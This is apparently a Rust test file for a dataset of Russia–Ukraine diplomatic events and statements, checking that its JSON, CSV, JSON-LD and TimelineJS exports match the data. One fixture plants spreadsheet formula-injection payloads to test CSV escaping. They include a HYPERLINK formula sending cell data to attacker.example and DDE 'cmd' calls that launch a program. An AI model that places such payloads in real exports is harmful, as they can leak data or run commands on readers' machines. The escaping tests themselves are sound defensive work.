//! The open-data exports: what a researcher downloads must parse back to the same dataset.

use std::path::Path;

use summitry_check::{export, load};
use summitry_data::Dataset;

fn real() -> Dataset {
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../data");
    load(&data).unwrap_or_else(|r| panic!("{r}"))
}

fn ids(v: &serde_json::Value, key: &str) -> Vec<String> {
    v[key]
        .as_array()
        .unwrap_or_else(|| panic!("`{key}` is not an array"))
        .iter()
        .map(|x| {
            x["id"]
                .as_str()
                .expect("every item has a string id")
                .to_string()
        })
        .collect()
}

#[test]
fn json_export_parses_back_with_the_same_ids() {
    let ds = real();
    let text = export::to_json_string(&ds);
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    let same = |key: &str, want: Vec<&str>| assert_eq!(ids(&v, key), want, "{key}");
    same(
        "sources",
        ds.sources.iter().map(|x| x.id.as_str()).collect(),
    );
    same("actors", ds.actors.iter().map(|x| x.id.as_str()).collect());
    same("places", ds.places.iter().map(|x| x.id.as_str()).collect());
    same("topics", ds.topics.iter().map(|x| x.id.as_str()).collect());
    same("events", ds.events.iter().map(|x| x.id.as_str()).collect());
    same(
        "statements",
        ds.statements.iter().map(|x| x.id.as_str()).collect(),
    );
    same("claims", ds.claims.iter().map(|x| x.id.as_str()).collect());
}

#[test]
fn events_are_denormalised_as_documented() {
    let ds = real();
    let v = export::to_json(&ds);
    let istanbul = v["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"] == "istanbul-talks-2025-07-23")
        .expect("the Istanbul talks are exported");
    assert_eq!(istanbul["date"], "2025-07-23");
    assert_eq!(istanbul["kind"], "talks");
    assert_eq!(istanbul["status"], "held");
    assert_eq!(istanbul["place"]["name"], "Istanbul");
    assert_eq!(istanbul["place"]["country"], "TR");
    assert!(istanbul["place"]["lat"].is_f64());
    assert_eq!(istanbul["participants"][0]["name"], "Ukrainian delegation");
    let call = v["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "call")
        .unwrap();
    assert!(call["place"].is_null(), "a call has a null place");
}

#[test]
fn statements_carry_speaker_and_source_objects() {
    let v = export::to_json(&real());
    let cart = v["statements"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "kremlin-2025-07-24-cart-before-horse")
        .unwrap();
    assert_eq!(
        cart["quote"],
        "trying to put the cart before the horse a little bit"
    );
    assert_eq!(cart["paraphrase"], false);
    assert_eq!(cart["speaker"]["name"], "The Kremlin");
    assert_eq!(cart["speaker"]["side"], "russia");
    assert_eq!(cart["source"]["published"], "2025-07-27");
    assert_eq!(cart["date"], "2025-07-24");
}

#[test]
fn claims_list_sides_with_positions() {
    let v = export::to_json(&real());
    let claim = &v["claims"][0];
    assert_eq!(claim["id"], "leaders-meeting-by-august-2025");
    assert_eq!(claim["sides"][0]["position"], "proposes");
    assert!(claim["sides"][1]["statements"].as_array().unwrap().len() >= 2);
}

#[test]
fn csv_has_one_row_per_item_and_round_trips_quotes() {
    let ds = real();
    let events = export::events_csv(&ds);
    let mut r = csv::Reader::from_reader(events.as_bytes());
    assert_eq!(r.records().count(), ds.events.len());
    let statements = export::statements_csv(&ds);
    let mut r = csv::Reader::from_reader(statements.as_bytes());
    let headers = r.headers().unwrap().clone();
    let quote_col = headers.iter().position(|h| h == "quote").unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), ds.statements.len());
    for (row, s) in rows.iter().zip(&ds.statements) {
        assert_eq!(&row[quote_col], s.quote, "quotes survive CSV quoting");
    }
}

#[test]
fn json_ld_describes_events_and_quotations() {
    let ds = real();
    let v = export::to_json_ld(&ds);
    assert_eq!(v["@context"], "https://schema.org");
    let graph = v["@graph"].as_array().unwrap();
    let events: Vec<_> = graph.iter().filter(|x| x["@type"] == "Event").collect();
    let quotes: Vec<_> = graph.iter().filter(|x| x["@type"] == "Quotation").collect();
    assert_eq!(events.len(), ds.events.len());
    assert_eq!(quotes.len(), ds.statements.len());
    let istanbul = events
        .iter()
        .find(|e| e["startDate"] == "2025-07-23")
        .unwrap();
    assert_eq!(istanbul["location"]["name"], "Istanbul");
    assert!(istanbul["attendee"].as_array().unwrap().len() >= 2);
    let cart = quotes
        .iter()
        .find(|q| q["text"].as_str().unwrap().contains("cart before"))
        .unwrap();
    assert_eq!(cart["creator"]["name"], "The Kremlin");
    assert_eq!(cart["isBasedOn"]["datePublished"], "2025-07-27");
}

/// The real dataset with a hostile quote, title and place name planted (issue 12, finding 7).
fn with_formulas() -> Dataset {
    let mut ds = real();
    ds.statements[0].quote = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Read more\")".into();
    ds.statements[1].quote = "+cmd|' /C calc'!A0".into();
    ds.events[0].title = "-2+3+cmd|' /C calc'!A0".into();
    ds.events[0].summary = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    ds.events[1].title = "\tleading tab".into();
    ds.events[1].summary = "\rleading return".into();
    ds
}

fn csv_rows(text: &str) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let headers = r.headers().unwrap().clone();
    (headers, r.records().map(Result::unwrap).collect())
}

fn column(headers: &csv::StringRecord, name: &str) -> usize {
    headers.iter().position(|h| h == name).unwrap()
}

#[test]
fn a_quote_that_is_a_formula_is_text_in_csv_and_verbatim_in_json() {
    let ds = with_formulas();
    let (headers, rows) = csv_rows(&export::statements_csv(&ds));
    let quote = column(&headers, "quote");
    assert_eq!(
        &rows[0][quote],
        "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Read more\")"
    );
    assert_eq!(&rows[1][quote], "'+cmd|' /C calc'!A0");
    let v = export::to_json(&ds);
    assert_eq!(v["statements"][0]["quote"], ds.statements[0].quote);
    assert_eq!(v["statements"][1]["quote"], ds.statements[1].quote);
}

#[test]
fn every_text_cell_starting_like_a_formula_gets_a_leading_apostrophe() {
    let ds = with_formulas();
    let (headers, rows) = csv_rows(&export::events_csv(&ds));
    let (title, summary) = (column(&headers, "title"), column(&headers, "summary"));
    assert_eq!(&rows[0][title], "'-2+3+cmd|' /C calc'!A0");
    assert_eq!(&rows[0][summary], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(&rows[1][title], "'\tleading tab");
    assert_eq!(&rows[1][summary], "'\rleading return");
    let v = export::to_json(&ds);
    assert_eq!(v["events"][0]["title"], ds.events[0].title);
    assert_eq!(v["events"][1]["summary"], ds.events[1].summary);
}

#[test]
fn no_csv_cell_of_text_can_start_a_formula() {
    let ds = with_formulas();
    for text in [export::events_csv(&ds), export::statements_csv(&ds)] {
        let (headers, rows) = csv_rows(&text);
        for row in &rows {
            for (value, name) in row.iter().zip(&headers) {
                if name != "lat" && name != "lon" {
                    assert!(
                        !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{name}: {value:?}"
                    );
                }
            }
        }
    }
}

#[test]
fn coordinates_west_or_south_stay_negative_numbers_in_csv() {
    let mut ds = real();
    let row = ds
        .events
        .iter()
        .position(|e| e.place.is_some())
        .expect("some event has a place");
    let place = ds.events[row].place.clone().unwrap();
    let p = ds.places.iter_mut().find(|p| p.id == place).unwrap();
    p.lat = -33.87;
    p.lon = -77.04;
    let (headers, rows) = csv_rows(&export::events_csv(&ds));
    assert_eq!(&rows[row][column(&headers, "lat")], "-33.87");
    assert_eq!(&rows[row][column(&headers, "lon")], "-77.04");
}

#[test]
fn ordinary_text_is_not_touched() {
    assert_eq!(export::cell("Istanbul talks"), "Istanbul talks");
    assert_eq!(export::cell("“=” in quotes"), "“=” in quotes");
    assert_eq!(export::cell("a=b"), "a=b");
    assert_eq!(export::cell(""), "");
    assert_eq!(export::cell("=1"), "'=1");
}

#[test]
fn timelinejs_export_has_a_title_and_a_slide_per_event_honest_to_precision() {
    let ds = real();
    let v: serde_json::Value = serde_json::from_str(&export::timelinejs::to_string(&ds)).unwrap();
    assert_eq!(v["title"]["text"]["headline"], ds.name.as_str());
    let events = v["events"].as_array().unwrap();
    assert_eq!(events.len(), ds.events.len());
    for (slide, e) in events.iter().zip(&ds.events) {
        assert_eq!(slide["unique_id"], e.id.as_str());
        assert_eq!(slide["group"], e.kind.as_str());
        let start = &slide["start_date"];
        assert_eq!(start["year"], e.when.date.year());
        match e.when.precision {
            summitry_data::Precision::Month => {
                assert!(start.get("day").is_none(), "{}: a month has no day", e.id)
            }
            summitry_data::Precision::By => assert!(
                slide["display_date"].as_str().unwrap().starts_with("by "),
                "{}",
                e.id
            ),
            summitry_data::Precision::After => assert!(
                slide["display_date"]
                    .as_str()
                    .unwrap()
                    .starts_with("after "),
                "{}",
                e.id
            ),
            summitry_data::Precision::Range => assert_eq!(
                slide["end_date"]["day"],
                e.when.end.unwrap().day(),
                "{}",
                e.id
            ),
            _ => assert_eq!(start["day"], e.when.date.day()),
        }
    }
    let proposed = events
        .iter()
        .find(|s| s["unique_id"] == "proposed-zelensky-putin-meeting")
        .unwrap();
    assert_eq!(proposed["display_date"], "by 31 August 2025");
    assert!(proposed["text"]["text"]
        .as_str()
        .unwrap()
        .contains("Participants: Volodymyr Zelensky"));
}
